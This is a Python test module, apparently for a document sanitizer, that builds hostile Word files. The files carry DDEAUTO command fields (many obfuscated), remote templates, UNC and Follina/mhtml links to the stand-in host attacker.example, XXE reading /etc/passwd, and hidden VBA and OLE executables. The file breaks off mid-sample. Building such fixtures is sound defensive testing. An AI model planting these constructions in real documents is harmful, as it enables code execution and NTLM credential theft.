"""Hostile Word documents (ECMA-376 Part 1 §17): fields, links, templates, OLE, frames, altChunk, macros.

Benign bases come from python-docx (tests/office_builders.py) and LibreOffice; attacks are planted
with zipfile text edits, the way maldoc builder kits do it.
"""

from __future__ import annotations

import html
import re
from pathlib import Path

from tests import office_builders as base
from tests.attacks.builders import Expect, sample
from tests.attacks.builders.ooxml_parts import (
    CALC,
    DDEAUTO,
    DOCUMENT_RELS,
    HTML_SCRIPT,
    MAILTO_ATTACH,
    MHTML,
    MS_RT,
    MSDT,
    RT,
    SETTINGS_RELS,
    SVG_SCRIPT,
    W_NS,
    add_part,
    packager_ole1,
    vba_everywhere,
    with_customui,
)


def _docx() -> base.Package:
    return base.Package(base.docx_bytes())


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{html.escape(text)}</w:t></w:r>'


def _simple_field(instruction: str, result: str = "見積書") -> str:
    return f'<w:fldSimple w:instr="{html.escape(instruction)}">{_run(result)}</w:fldSimple>'


def _complex_field(instruction_runs: list[str], result: str = "見積書") -> str:
    """§17.16.18: fldChar begin, instrText runs, fldChar separate, result, fldChar end."""
    instructions = "".join(
        piece
        if piece.startswith("<")
        else f'<w:r><w:instrText xml:space="preserve">{html.escape(piece)}</w:instrText></w:r>'
        for piece in instruction_runs
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + instructions
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _run(result)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _word_with(body: str) -> bytes:
    package = _docx()
    package.body_append(f"<w:p>{body}</w:p>")
    return package.bytes()


def _word_rel_element(rel_type: str, target: str, element: str, external: bool = True) -> bytes:
    package = _docx()
    package.add_rel(DOCUMENT_RELS, "rIdAtk", rel_type, target, external)
    package.body_append(element)
    return package.bytes()


@sample("docx_benign", ".docx", "control", "python-docx document with a picture", Expect.RELEASED)
def docx_benign(work: Path) -> bytes:
    return base.docx_bytes()


@sample(
    "docx_harmless_fields",
    ".docx",
    "control",
    "§17.16.5: PAGE, DATE and an https HYPERLINK field are everyday fields",
    Expect.RELEASED,
)
def docx_harmless_fields(work: Path) -> bytes:
    return _word_with(
        _simple_field("PAGE", "1")
        + _complex_field([' DATE \\@ "yyyy/MM/dd" '], "2026/11/28")
        + _complex_field([' HYPERLINK "https://www.city.example.lg.jp/" '], "市のサイト")
    )


@sample("docx_libreoffice_dde", ".docx", "dde-field", "LibreOffice-written docx; SensePost 2017 DDEAUTO")
def docx_libreoffice_dde(work: Path) -> bytes:
    source = work / "lo_base.rtf"
    source.write_bytes(
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard \\u33883?\\u20986?\\u27809? memo\\par}"
    )
    package = base.Package(base.libreoffice(work, source, "docx:MS Word 2007 XML").read_bytes())
    text = package.text("word/document.xml")
    field = f"<w:p>{_simple_field(DDEAUTO)}</w:p>"
    head, tail = text.rsplit("<w:sectPr", 1)
    package.put("word/document.xml", head + field + "<w:sectPr" + tail)
    return package.bytes()


@sample(
    "docx_ddeauto_fldsimple",
    ".docx",
    "dde-field",
    "SensePost 2017 'Macro-less code exec in MSWord'; §17.16.5.13",
)
def docx_ddeauto_fldsimple(work: Path) -> bytes:
    return _word_with(_simple_field(DDEAUTO))


@sample("docx_dde_split_runs", ".docx", "dde-field", "§17.16.18 complex field; instruction split over runs")
def docx_dde_split_runs(work: Path) -> bytes:
    return _word_with(_complex_field(["DD", "EAUTO ", CALC, ' "/k calc.exe"']))


@sample("docx_dde_lowercase", ".docx", "dde-field", "§17.16.1: field names are case-insensitive")
def docx_dde_lowercase(work: Path) -> bytes:
    return _word_with(_complex_field([f'  dde {CALC} "/c calc.exe" ']))


@sample("docx_dde_charrefs", ".docx", "dde-field", "XML 1.0 §4.1 character references in instr")
def docx_dde_charrefs(work: Path) -> bytes:
    package = _docx()
    field = (
        '<w:p><w:fldSimple w:instr="&#68;&#68;&#69;AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
        + _run("x")
        + "</w:fldSimple></w:p>"
    )
    package.body_append(field)
    return package.bytes()


@sample(
    "docx_several_fields_one_paragraph",
    ".docx",
    "dde-field",
    "§17.16: fields are runs; a paragraph may hold many",
)
def docx_several_fields_one_paragraph(work: Path) -> bytes:
    return _word_with(
        _simple_field("PAGE", "1")
        + _run(" / ")
        + _complex_field([DDEAUTO])
        + _complex_field([" NUMPAGES "], "3")
    )


@sample(
    "docx_nested_quote_builds_dde",
    ".docx",
    "dde-field",
    "§17.16.5.51 QUOTE; nested fields build the keyword (Sophos 2017)",
)
def docx_nested_quote_builds_dde(work: Path) -> bytes:
    inner = _complex_field([" QUOTE 68 68 69 65 85 84 79 "], "DDEAUTO")
    return _word_with(_complex_field([inner, f' {CALC} "/k calc" ']))


@sample(
    "docx_dde_nested_in_if", ".docx", "dde-field", "§17.16.5.29 IF with a nested DDEAUTO in its true text"
)
def docx_dde_nested_in_if(work: Path) -> bytes:
    inner = _complex_field([DDEAUTO])
    return _word_with(_complex_field([' IF 1 = 1 "', inner, '" "" ']))


@sample("docx_dde_in_header", ".docx", "dde-field", "§17.10.4 header part; fields run there too")
def docx_dde_in_header(work: Path) -> bytes:
    package = _docx()
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}">'
        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:hdr>"
    )
    add_part(
        package,
        "word/header9.xml",
        header,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
        DOCUMENT_RELS,
        "rIdHdr9",
        RT + "header",
    )
    text = package.text("word/document.xml")
    reference = '<w:headerReference w:type="default" r:id="rIdHdr9"/>'
    package.put(
        "word/document.xml", re.sub(r"(<w:sectPr[^>]*>)", lambda m: m.group(1) + reference, text, count=1)
    )
    return package.bytes()


@sample(
    "docx_includepicture_http",
    ".docx",
    "remote-field",
    "§17.16.5.33 INCLUDEPICTURE; web bug / NTLM leak write-ups",
)
def docx_includepicture_http(work: Path) -> bytes:
    return _word_with(_simple_field('INCLUDEPICTURE "http://attacker.example/track.png" \\d'))


@sample(
    "docx_includepicture_unc",
    ".docx",
    "remote-field",
    "§17.16.5.33; UNC path leaks NTLM hashes (Pentestlab 2017)",
)
def docx_includepicture_unc(work: Path) -> bytes:
    return _word_with(
        _complex_field(['INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d \\* MERGEFORMAT'])
    )


@sample("docx_includetext_unc", ".docx", "remote-field", "§17.16.5.34 INCLUDETEXT")
def docx_includetext_unc(work: Path) -> bytes:
    return _word_with(_simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\payload.docx"'))


@sample("docx_link_field", ".docx", "remote-field", "§17.16.5.36 LINK to an OLE server with a UNC source")
def docx_link_field(work: Path) -> bytes:
    return _word_with(
        _simple_field('LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\book.xls" "Sheet1!R1C1" \\a \\p')
    )


def _hyperlink_field_sample(name: str, target: str, note: str) -> None:
    @sample(name, ".docx", "hyperlink-field", note)
    def build(work: Path) -> bytes:
        return _word_with(_complex_field([f' HYPERLINK "{target}" '], "請求書を開く"))


_hyperlink_field_sample(
    "docx_hyperlink_field_file", "file:///C:/Windows/System32/calc.exe", "§17.16.5.32 HYPERLINK to file:"
)

_hyperlink_field_sample(
    "docx_hyperlink_field_unc", "\\\\\\\\attacker.example\\\\share\\\\x.exe", "§17.16.5.32 HYPERLINK to UNC"
)

_hyperlink_field_sample(
    "docx_hyperlink_field_msmsdt", MSDT.replace('"', "'"), "Follina CVE-2022-30190 ms-msdt: scheme"
)

_hyperlink_field_sample(
    "docx_hyperlink_field_searchms",
    "search-ms:query=invoice&crumb=location:\\\\\\\\attacker.example@80\\\\share",
    "search-ms: URI abuse (Hacker House / Trellix 2022)",
)


@sample(
    "docx_hyperlink_rel_file",
    ".docx",
    "external-relationship",
    "§17.16.22 hyperlink with an external file: relationship",
)
def docx_hyperlink_rel_file(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink",
        "file:///C:/Windows/System32/calc.exe",
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>",
    )


@sample(
    "docx_hyperlink_rel_msmsdt",
    ".docx",
    "external-relationship",
    "Follina CVE-2022-30190: ms-msdt: as a link target",
)
def docx_hyperlink_rel_msmsdt(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink",
        html.escape(MSDT),
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("詳細") + "</w:hyperlink></w:p>",
    )


@sample(
    "docx_remote_template_http",
    ".docx",
    "remote-template",
    "§17.15.1.6 attachedTemplate; template injection (Cisco Talos 2017)",
)
def docx_remote_template_http(work: Path) -> bytes:
    return _remote_template("http://attacker.example/t.dotm")


@sample(
    "docx_remote_template_unc", ".docx", "remote-template", "§17.15.1.6 attachedTemplate over SMB (NTLM leak)"
)
def docx_remote_template_unc(work: Path) -> bytes:
    return _remote_template("\\\\attacker.example\\share\\t.dotm")


def _in_settings(package: base.Package, xml: str) -> None:
    """Put `xml` first in w:settings (§17.15.1), declaring the relationships prefix it may use."""
    settings = package.text("word/settings.xml")
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
    package.put(
        "word/settings.xml", re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + xml, settings, count=1)
    )


def _remote_template(target: str, rel_type: str = RT + "attachedTemplate") -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdTpl", rel_type, html.escape(target), external=True)
    _in_settings(package, '<w:attachedTemplate r:id="rIdTpl"/>')
    return package.bytes()


@sample(
    "docx_template_via_hyperlink_rel",
    ".docx",
    "remote-template",
    "issue #8 §1: attachedTemplate naming a relationship declared as a hyperlink",
)
def docx_template_via_hyperlink_rel(work: Path) -> bytes:
    return _remote_template("https://attacker.example/t.dotm", RT + "hyperlink")


@sample(
    "docx_oleobject_mhtml",
    ".docx",
    "external-relationship",
    "CVE-2021-40444 (MSRC, Sept 2021): external oleObject with mhtml:",
)
def docx_oleobject_mhtml(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject",
        html.escape(MHTML),
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" '
        'DrawAspect="Content" r:id="rIdAtk" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType>'
        "<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>",
    )


@sample(
    "docx_follina_oleobject",
    ".docx",
    "external-relationship",
    "Follina CVE-2022-30190: document.xml.rels oleObject to http ...html!",
)
def docx_follina_oleobject(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject",
        "http://attacker.example/index.html!",
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdAtk" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>",
    )


@sample(
    "docx_frame_websettings",
    ".docx",
    "frames",
    "§17.15.2.13 frameset/frame with an external source (NTLM leak)",
)
def docx_frame_websettings(work: Path) -> bytes:
    package = _docx()
    package.add_rel(
        "word/_rels/webSettings.xml.rels",
        "rIdFrame",
        RT + "frame",
        "http://attacker.example/frame.docx",
        True,
    )
    web = package.text("word/webSettings.xml")
    if "xmlns:r=" not in web:
        web = web.replace("<w:webSettings ", f'<w:webSettings xmlns:r="{RT[:-1]}" ', 1)
    frames = (
        '<w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
    )
    web = re.sub(
        r"(<w:webSettings[^>]*?)(/?)>",
        lambda m: m.group(1) + ">" + frames + ("</w:webSettings>" if m.group(2) else ""),
        web,
        count=1,
    )
    package.put("word/webSettings.xml", web)
    return package.bytes()


@sample("docx_subdocument_unc", ".docx", "frames", "§17.17.2 subDoc: master document pulling a remote part")
def docx_subdocument_unc(work: Path) -> bytes:
    return _word_rel_element(
        RT + "subDocument", "\\\\attacker.example\\share\\sub.docx", '<w:p><w:subDoc r:id="rIdAtk"/></w:p>'
    )


def _altchunk(name: str, content_type: str, data: str) -> bytes:
    package = _docx()
    package.put(f"word/{name}", data)
    package.add_rel(DOCUMENT_RELS, "rIdChunk", RT + "aFChunk", name)
    package.content_type(f"/word/{name}", content_type)
    package.body_append('<w:altChunk r:id="rIdChunk"/>')
    return package.bytes()


@sample("docx_altchunk_html", ".docx", "altchunk", "§17.17.1.1 altChunk importing HTML with script")
def docx_altchunk_html(work: Path) -> bytes:
    return _altchunk("chunk.html", "text/html", HTML_SCRIPT)


@sample("docx_altchunk_mht", ".docx", "altchunk", "§17.17.1.1 altChunk importing MHT (message/rfc822)")
def docx_altchunk_mht(work: Path) -> bytes:
    mht = (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: text/html\r\nContent-Location: file:///C:/a.htm\r\n\r\n"
        + HTML_SCRIPT
        + "\r\n--b--\r\n"
    )
    return _altchunk("chunk.mht", "message/rfc822", mht)


@sample(
    "docx_customui_onload", ".docx", "customui", "[MS-CUSTOMUI] §2.3 customUI onLoad callback calling a macro"
)
def docx_customui_onload(work: Path) -> bytes:
    return with_customui(_docx())


@sample("docm_vba", ".docm", "macros", "[MS-OFFMACRO] §2.2.1 vbaProject part of a macro-enabled document")
def docm_vba(work: Path) -> bytes:
    return vba_everywhere(_docx(), "word", DOCUMENT_RELS, base.DOCX_MAIN, base.DOCM_MAIN)


@sample(
    "docx_vba_in_docx", ".docx", "macros", "[MS-OFFMACRO] vbaProject inside a package typed as macro-free"
)
def docx_vba_in_docx(work: Path) -> bytes:
    package = _docx()
    add_part(
        package,
        "word/vbaProject.bin",
        base.real_vba_project(),
        "application/vnd.ms-office.vbaProject",
        DOCUMENT_RELS,
        "rIdVba",
        MS_RT + "vbaProject",
    )
    package.put(
        "word/vbaData.xml",
        '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
    )
    package.content_type("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    return package.bytes()


@sample(
    "docx_vba_disguised_as_png",
    ".docx",
    "macros",
    "OPC §10.1.2: the content type, not the name, says what a part is",
)
def docx_vba_disguised_as_png(work: Path) -> bytes:
    package = _docx()
    add_part(
        package,
        "word/media/logo.png",
        base.real_vba_project(),
        "application/vnd.ms-office.vbaProject",
        DOCUMENT_RELS,
        "rIdVba",
        MS_RT + "vbaProject",
    )
    return package.bytes()


@sample(
    "docx_keymap_customizations", ".docx", "macros", "[MS-DOCX] keyMapCustomizations binding keys to macros"
)
def docx_keymap_customizations(work: Path) -> bytes:
    package = _docx()
    keymap = (
        '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps>'
        '<wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.AUTOOPEN"/></wne:keymap>'
        "</wne:keymaps></wne:tcg>"
    )
    add_part(
        package,
        "word/customizations.xml",
        keymap,
        "application/vnd.ms-word.keyMapCustomizations+xml",
        DOCUMENT_RELS,
        "rIdKeys",
        MS_RT + "keyMapCustomizations",
    )
    return package.bytes()


@sample("docx_activex_control", ".docx", "macros", "[MS-OFORMS] ActiveX control part + w:control (§17.3.3.5)")
def docx_activex_control(work: Path) -> bytes:
    package = _docx()
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
        f'xmlns:r="{RT[:-1]}"/>'
    )
    add_part(
        package,
        "word/activeX/activeX1.xml",
        control,
        "application/vnd.ms-office.activeX+xml",
        DOCUMENT_RELS,
        "rIdAx",
        RT + "control",
    )
    package.body_append(
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="TextBox1"/></w:object></w:r></w:p>'
    )
    return package.bytes()


@sample(
    "docx_ole_package_exe",
    ".docx",
    "ole-embedding",
    "[MS-OLEDS] Package (Packager Shell Object) embedding an .exe",
)
def docx_ole_package_exe(work: Path) -> bytes:
    package = _docx()
    add_part(
        package,
        "word/embeddings/oleObject1.bin",
        packager_ole1(),
        "application/vnd.openxmlformats-officedocument.oleObject",
        DOCUMENT_RELS,
        "rIdOle",
        RT + "oleObject",
    )
    package.body_append(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" '
        'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    return package.bytes()


@sample(
    "docx_mailmerge_datasource",
    ".docx",
    "external-relationship",
    "§17.14.9 mailMerge dataSource to a remote workbook",
)
def docx_mailmerge_datasource(work: Path) -> bytes:
    package = _docx()
    package.add_rel(
        SETTINGS_RELS, "rIdMm", RT + "mailMergeSource", "\\\\attacker.example\\share\\list.xlsx", True
    )
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\list.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMm"/></w:mailMerge>'
    )
    _in_settings(package, merge)
    return package.bytes()


@sample(
    "docx_linked_picture_unc",
    ".docx",
    "external-relationship",
    "§20.1.8.13 blip r:link: a picture fetched from a UNC path",
)
def docx_linked_picture_unc(work: Path) -> bytes:
    package = _docx()
    package.add_rel(DOCUMENT_RELS, "rIdLink", RT + "image", "\\\\attacker.example\\share\\p.png", True)
    text = package.text("word/document.xml")
    package.put(
        "word/document.xml", re.sub(r'r:embed="(rId\d+)"', r'r:embed="\1" r:link="rIdLink"', text, count=1)
    )
    return package.bytes()


def _replace_picture(data: bytes, content_type: str, suffix: str) -> bytes:
    package = _docx()
    package.put(f"word/media/image1.{suffix}", data)
    rels = package.text(DOCUMENT_RELS).replace("media/image1.png", f"media/image1.{suffix}")
    package.put(DOCUMENT_RELS, rels)
    del package.parts["word/media/image1.png"]
    package.content_type(f"/word/media/image1.{suffix}", content_type)
    return package.bytes()


@sample(
    "docx_svg_picture_script", ".docx", "markup-part", "§20.1.8.13 + [MS-ODRAWXML] svgBlip: SVG with script"
)
def docx_svg_picture_script(work: Path) -> bytes:
    package = base.Package(_replace_picture(SVG_SCRIPT.encode(), "image/svg+xml", "svg"))
    return package.bytes()


@sample(
    "docx_emf_picture", ".docx", "markup-part", "[MS-EMF] metafile picture (EMR records can carry anything)"
)
def docx_emf_picture(work: Path) -> bytes:
    return _replace_picture(_emf(), "image/x-emf", "emf")


@sample(
    "docx_wmf_picture", ".docx", "markup-part", "[MS-WMF] placeable metafile picture with an ESCAPE record"
)
def docx_wmf_picture(work: Path) -> bytes:
    header = bytes.fromhex("d7cdc69a0000000000000a000a00600000000000" + "0000")
    body = (
        bytes.fromhex("010009000003") + b"\x40\x00\x00\x00" + b"\x00\x00" + b"\x00\x00\x00\x00" + b"\x00\x00"
    )
    escape = (12).to_bytes(4, "little") + (0x0626).to_bytes(2, "little") + b"<script>x</script>"[:16]
    return _replace_picture(header + body + escape + b"\x03\x00\x00\x00\x00\x00", "image/x-wmf", "wmf")


def _emf() -> bytes:
    header = bytearray(108)
    header[0:4] = (1).to_bytes(4, "little")  # EMR_HEADER
    header[4:8] = (108).to_bytes(4, "little")
    header[40:44] = b" EMF"
    header[44:48] = (0x10000).to_bytes(4, "little")
    comment = b"<script>alert(1)</script>"
    record = (70).to_bytes(4, "little") + (12 + len(comment)).to_bytes(4, "little") + comment  # EMR_COMMENT
    eof = (14).to_bytes(4, "little") + (20).to_bytes(4, "little") + b"\x00" * 12
    return bytes(header) + record + eof


@sample(
    "docx_png_that_is_html",
    ".docx",
    "markup-part",
    "OPC: content type image/png over HTML bytes (MIME confusion)",
)
def docx_png_that_is_html(work: Path) -> bytes:
    package = _docx()
    package.put("word/media/image1.png", HTML_SCRIPT)
    return package.bytes()


@sample(
    "docx_namespace_prefix_trick",
    ".docx",
    "prefix-trick",
    "XML Namespaces §6: the prefix is arbitrary; only the URI counts",
)
def docx_namespace_prefix_trick(work: Path) -> bytes:
    package = _docx()
    field = (
        f'<w:p><evil:fldSimple xmlns:evil="{W_NS}" evil:instr="DDEAUTO {CALC} &quot;/k calc&quot;">'
        f'<x:r xmlns:x="{W_NS}"><x:t>x</x:t></x:r></evil:fldSimple>'
        f'<w:r><instrText xmlns="{W_NS}">ignored</instrText></w:r></w:p>'
    )
    package.body_append(field)
    return package.bytes()


@sample(
    "docx_default_namespace_field",
    ".docx",
    "prefix-trick",
    "XML Namespaces §6.2: a default namespace instead of w:",
)
def docx_default_namespace_field(work: Path) -> bytes:
    package = _docx()
    package.body_append(
        f'<p xmlns="{W_NS}"><r><fldChar fldCharType="begin"/></r><r><instrText> DDEAUTO {CALC} "/k calc" </instrText></r>'
        '<r><fldChar fldCharType="separate"/></r><r><t>x</t></r><r><fldChar fldCharType="end"/></r></p>'
    )
    return package.bytes()


@sample(
    "docx_doctype_entities",
    ".docx",
    "prefix-trick",
    "XML 1.0 §4.2 internal entities hiding DDEAUTO (and XXE)",
)
def docx_doctype_entities(work: Path) -> bytes:
    package = _docx()
    text = package.text("word/document.xml")
    text = text.replace(
        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY d "DDEAUTO">'
        '<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        1,
    )
    text = text.replace(
        "<w:sectPr",
        f'<w:p><w:fldSimple w:instr="&d; {CALC} &quot;/k calc&quot;">{_run("x")}</w:fldSimple></w:p><w:sectPr',
        1,
    )
    package.put("word/document.xml", text)
    return package.bytes()


@sample(
    "docx_glossary_dde", ".docx", "dde-field", "§17.12 glossary document: a second story with its own fields"
)
def docx_glossary_dde(work: Path) -> bytes:
    package = _docx()
    glossary = (
        f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts><w:docPart><w:docPartBody><w:p>'
        f"{_simple_field(DDEAUTO)}</w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
    )
    add_part(
        package,
        "word/glossary/document.xml",
        glossary,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
        DOCUMENT_RELS,
        "rIdGl",
        RT + "glossaryDocument",
    )
    return package.bytes()


@sample(
    "docx_field_spans_paragraphs",
    ".docx",
    "dde-field",
    "§17.16.18: a complex field may begin in one paragraph and end in another",
)
def docx_field_spans_paragraphs(work: Path) -> bytes:
    package = _docx()
    package.body_append(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">DDE</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText xml:space="preserve">AUTO {html.escape(CALC)} "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _run("x")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return package.bytes()


@sample(
    "docx_field_in_tracked_insertion",
    ".docx",
    "dde-field",
    "§17.13.5.18 w:ins: runs of a tracked insertion are live text",
)
def docx_field_in_tracked_insertion(work: Path) -> bytes:
    return _word_with(
        f'<w:ins w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">{_complex_field([DDEAUTO])}</w:ins>'
    )


@sample(
    "docx_field_in_content_control", ".docx", "dde-field", "§17.5.2 sdt content control wrapping a DDE field"
)
def docx_field_in_content_control(work: Path) -> bytes:
    return _word_with(
        f'<w:sdt><w:sdtPr><w:id w:val="7"/></w:sdtPr><w:sdtContent>{_simple_field(DDEAUTO)}</w:sdtContent></w:sdt>'
    )


@sample(
    "docx_field_in_alternate_content",
    ".docx",
    "dde-field",
    "ECMA-376 Part 3 §10.2 mc:AlternateContent Choice/Fallback",
)
def docx_field_in_alternate_content(work: Path) -> bytes:
    field = _complex_field([DDEAUTO])
    return _word_with(
        f'<mc:AlternateContent><mc:Choice Requires="w14">{field}</mc:Choice><mc:Fallback>{field}</mc:Fallback></mc:AlternateContent>'
    )


@sample("docx_field_in_footnote", ".docx", "dde-field", "§17.11 footnotes part with an INCLUDETEXT field")
def docx_field_in_footnote(work: Path) -> bytes:
    package = _docx()
    include = _simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\x.docx"')
    notes = (
        f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p>{include}</w:p></w:footnote></w:footnotes>'
    )
    add_part(
        package,
        "word/footnotes.xml",
        notes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
        DOCUMENT_RELS,
        "rIdFn",
        RT + "footnotes",
    )
    package.body_append('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')
    return package.bytes()


@sample(
    "docx_hyperlink_rel_protocol_relative",
    ".docx",
    "external-relationship",
    "RFC 3986 §4.2 network-path reference: '//host/share' is UNC on Windows",
)
def docx_hyperlink_rel_protocol_relative(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink",
        "//attacker.example/share/invoice.exe",
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("請求書") + "</w:hyperlink></w:p>",
    )


@sample(
    "docx_hyperlink_rel_tab_in_scheme",
    ".docx",
    "external-relationship",
    "WHATWG URL §4.4: tab and newline are removed from URLs",
)
def docx_hyperlink_rel_tab_in_scheme(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink",
        " fi&#9;le:///C:/Windows/System32/calc.exe",
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>",
    )


@sample(
    "docx_vml_imagedata_unc",
    ".docx",
    "external-relationship",
    "VML v:imagedata src / o:href to a UNC path (NTLM leak)",
)
def docx_vml_imagedata_unc(work: Path) -> bytes:
    return _word_with(
        '<w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt">'
        '<v:imagedata src="\\\\attacker.example\\share\\p.png" o:href="file://attacker.example/share/q.png"/>'
        "</v:shape></w:pict></w:r>"
    )


@sample(
    "docx_mailto_attach",
    ".docx",
    "external-relationship",
    "'Mailto: Me Your Secrets' (NDSS 2021): mailto ?attach= a local file",
)
def docx_mailto_attach(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink",
        html.escape(MAILTO_ATTACH),
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("担当へメール") + "</w:hyperlink></w:p>",
    )


@sample(
    "docx_object_link_new_syntax",
    ".docx",
    "external-relationship",
    "§17.3.3.20 w:objectLink (2nd-edition OLE syntax) updating always",
)
def docx_object_link_new_syntax(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject",
        html.escape(MHTML),
        '<w:p><w:r><w:object><w:objectLink r:id="rIdAtk" w:progId="htmlfile" w:shapeId="_x0000_i1030" '
        'w:updateMode="always"/></w:object></w:r></w:p>',
    )


@sample(
    "docx_save_through_xslt",
    ".docx",
    "external-relationship",
    "§17.15.1.76 saveThroughXslt naming a remote transform",
)
def docx_save_through_xslt(work: Path) -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdXsl", RT + "transform", "http://attacker.example/t.xsl", True)
    _in_settings(package, '<w:saveThroughXslt r:id="rIdXsl"/>')
    return package.bytes()


@sample(
    "docx_duplicate_relationship_ids",
    ".docx",
    "remote-template",
    "OPC §9.3: two relationships with one Id (parser differential)",
)
def docx_duplicate_relationship_ids(work: Path) -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "hyperlink", "https://www.city.example.lg.jp/", True)
    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "attachedTemplate", "http://attacker.example/t.dotm", True)
    _in_settings(package, '<w:attachedTemplate r:id="rIdTpl"/>')
    return package.bytes()


@sample(
    "docx_two_main_parts",
    ".docx",
    "dde-field",
    "OPC: a second officeDocument relationship to a part holding DDEAUTO",
)
def docx_two_main_parts(work: Path) -> bytes:
    package = _docx()
    second = f'<w:document xmlns:w="{W_NS}"><w:body><w:p>{_simple_field(DDEAUTO)}</w:p></w:body></w:document>'
    package.put("word/document2.xml", second)
    package.content_type("/word/document2.xml", base.DOCX_MAIN)
    package.add_rel("_rels/.rels", "rIdMain2", RT + "officeDocument", "word/document2.xml")
    return package.bytes()


@sample(
    "docx_field_in_comment",
    ".docx",
    "dde-field",
    "§17.13.4 comments part (kept by policy) holding a DDEAUTO field",
)
def docx_field_in_comment(work: Path) -> bytes:
    package = _docx()
    comments = (
        f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="a"><w:p>{_simple_field(DDEAUTO)}'
        "</w:p></w:comment></w:comments>"
    )
    add_part(
        package,
        "word/comments.xml",
        comments,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
        DOCUMENT_RELS,
        "rIdCm",
        RT + "comments",
    )
    package.body_append(
        '<w:p><w:commentRangeStart w:id="0"/>' + _run("本文") + '<w:commentRangeEnd w:id="0"/>'
        '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
    )
    return package.bytes()


@sample(
    "docx_field_in_tracked_deletion",
    ".docx",
    "dde-field",
    "§17.13.5.13 w:del + delInstrText: rejecting the deletion (tracked changes are kept) revives the field",
)
def docx_field_in_tracked_deletion(work: Path) -> bytes:
    deleted = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
